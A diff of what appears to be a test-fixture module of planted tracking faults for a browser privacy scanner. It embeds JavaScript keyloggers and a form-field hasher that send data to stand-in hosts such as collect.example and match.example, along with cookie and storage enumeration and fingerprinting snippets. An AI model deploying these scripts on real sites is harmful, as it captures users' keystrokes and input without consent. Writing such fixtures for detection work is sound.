@@ -31,7 +31,7 @@ let typed = ""; document.addEventListener("keyup", (event) => { typed += event.k
 setTimeout(() => { new Image().src = "https://collect.example/k?d=" + encodeURIComponent(btoa(typed)); }, 1500);
 """
 _KEY_BY_KEY = """
-document.onkeypress = (event) => fetch("https://collect.example/key", { method: "POST", mode: "no-cors",
+document.onkeypress = (event) => fetch("https://single.example/key", { method: "POST", mode: "no-cors",
   body: JSON.stringify({ k: event.key, t: Math.round(event.timeStamp) }), keepalive: true }).catch(() => {});
 """
 _FIELD_HASHED = """
@@ -41,7 +41,7 @@ for (const field of document.querySelectorAll("input")) field.addEventListener("
   let mark = Array.from(value).reduce((sum, byte) => sum + byte.toString(16).padStart(2, "0"), "");
   if (crypto.subtle) mark = Array.from(new Uint8Array(await crypto.subtle.digest("SHA-1", value)))
     .map((byte) => byte.toString(16).padStart(2, "0")).join("");
-  new Image().src = "https://collect.example/match?em=" + mark;
+  new Image().src = "https://match.example/m?em=" + mark;
 });
 """
 _MOUSE = """
@@ -54,31 +54,44 @@ addEventListener("load", () => fetch("/planted/replay", { method: "POST", body: 
 
 SCRIPT_FAULTS: tuple[Fault, ...] = (
     Fault(
-        "4.7", "cookie-enumeration", script("jar", 'window.jar = document.cookie.split(";").map((one) => one.trim());')
+        "4.7",
+        "cookie-enumeration",
+        "/planted/jar.js",
+        script("jar", 'window.jar = document.cookie.split(";").map((one) => one.trim());'),
     ),
-    Fault("4.7", "storage-keys", script("keys", "window.held = Object.keys(localStorage);")),
+    Fault("4.7", "storage-keys", "/planted/keys.js", script("keys", "window.held = Object.keys(localStorage);")),
     Fault(
         "4.7",
         "storage-loop",
+        "/planted/loop.js",
         script("loop", "window.held = []; for (let at = 0; at < 3; at += 1) window.held.push(localStorage.key(at));"),
     ),
     Fault(
         "4.7",
         "storage-for-in",
+        "/planted/forin.js",
         script("forin", "window.held = []; for (const key in sessionStorage) window.held.push(key);"),
     ),
     Fault(
-        "4.7", "databases", script("databases", "indexedDB.databases().then((all) => { window.held = all.length; });")
+        "4.7",
+        "databases",
+        "/planted/databases.js",
+        script("databases", "indexedDB.databases().then((all) => { window.held = all.length; });"),
     ),
-    Fault("6.1", "canvas", script("canvas", _CANVAS)),
-    Fault("6.1", "canvas-shapes", script("shapes", _CANVAS_SHAPES)),
-    Fault("6.1", "audio", script("audio", _AUDIO)),
-    Fault("6.1", "fonts", script("fonts", _FONTS)),
-    Fault("6.1", "network-addresses", script("battery", "new RTCPeerConnection({ iceServers: [] }).createOffer();")),
-    Fault("6.1", "keys-to-own-host", script("logger", _KEYS_TO_OWN_HOST)),
-    Fault("6.1", "keys-to-other-host", script("sender", _KEYS_TO_OTHER_HOST)),
-    Fault("6.1", "key-by-key", script("single", _KEY_BY_KEY)),
-    Fault("6.1", "field-hashed", script("match", _FIELD_HASHED)),
-    Fault("6.1", "mouse-replay", script("mouse", _MOUSE)),
-    Fault("6.1", "content-replay", script("content", _PAGE_CONTENT)),
+    Fault("6.1", "canvas", "/planted/canvas.js", script("canvas", _CANVAS)),
+    Fault("6.1", "canvas-shapes", "/planted/shapes.js", script("shapes", _CANVAS_SHAPES)),
+    Fault("6.1", "audio", "/planted/audio.js", script("audio", _AUDIO)),
+    Fault("6.1", "fonts", "/planted/fonts.js", script("fonts", _FONTS)),
+    Fault(
+        "6.1",
+        "network-addresses",
+        "/planted/addresses.js",
+        script("addresses", "new RTCPeerConnection({ iceServers: [] }).createOffer();"),
+    ),
+    Fault("6.1", "keys-to-own-host", "/planted/keys carries", script("logger", _KEYS_TO_OWN_HOST)),
+    Fault("6.1", "keys-to-other-host", "collect.example/k carries", script("sender", _KEYS_TO_OTHER_HOST)),
+    Fault("6.1", "key-by-key", "single.example/key carries", script("single", _KEY_BY_KEY)),
+    Fault("6.1", "field-hashed", "match.example/m carries", script("match", _FIELD_HASHED)),
+    Fault("6.1", "mouse-replay", "positions the mouse took", script("mouse", _MOUSE)),
+    Fault("6.1", "content-replay", "texts or markup", script("content", _PAGE_CONTENT)),
 )
